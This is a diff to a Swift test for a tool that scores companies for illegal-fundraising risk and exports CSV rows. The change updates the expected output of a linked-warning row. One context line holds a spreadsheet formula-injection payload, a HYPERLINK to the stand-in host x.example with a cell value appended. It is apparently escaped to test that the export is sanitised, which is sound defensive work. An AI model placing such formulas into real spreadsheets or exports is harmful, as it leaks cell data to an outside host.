@@ -119,7 +119,8 @@ struct ScoringCommandTests {
         #expect(rows[1].contains(",R1,\(Self.source),,\"'=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"详情\"\")\",scored,,,illegal-fundraising,"), "\(rows[1])")
         #expect(rows[2].hasPrefix(",,不存在的公司,,,,,,,,,,,R2,,不存在的公司,,not_found,3,,illegal-fundraising,"), "\(rows[2])")
         #expect(rows[3].hasPrefix(",\(Self.source),,,,,,,,,,,,R3,\(Self.source),,再次举报,duplicate,4,\"duplicate of line 2, scored there\",illegal-fundraising,"), "\(rows[3])")
-        #expect(rows[4].hasPrefix(",\(Self.affiliate),上海盛通贸易有限公司,310115,77,high,,,,,立即核查：提请地方金融管理部门现场检查，涉嫌犯罪的移送公安机关,,,,,,,linked,,via \(Self.source) (异地): 陈某 —控股→ 杭州鑫盛财富管理有限公司"), "\(rows[4])")
+        // A linked warning's row carries its dimensions and reasons, as a scored row does.
+        #expect(rows[4].hasPrefix(",\(Self.affiliate),上海盛通贸易有限公司,310115,77,high,0,0,0,85.5,立即核查：提请地方金融管理部门现场检查，涉嫌犯罪的移送公安机关,,network_risk +85.5,,,,,linked,,via \(Self.source) (异地): 陈某 —控股→ 杭州鑫盛财富管理有限公司"), "\(rows[4])")
         #expect(rows.dropFirst().allSatisfy { $0.contains(",2025-01-01,") }, "\(result.stdout)")
     }
 
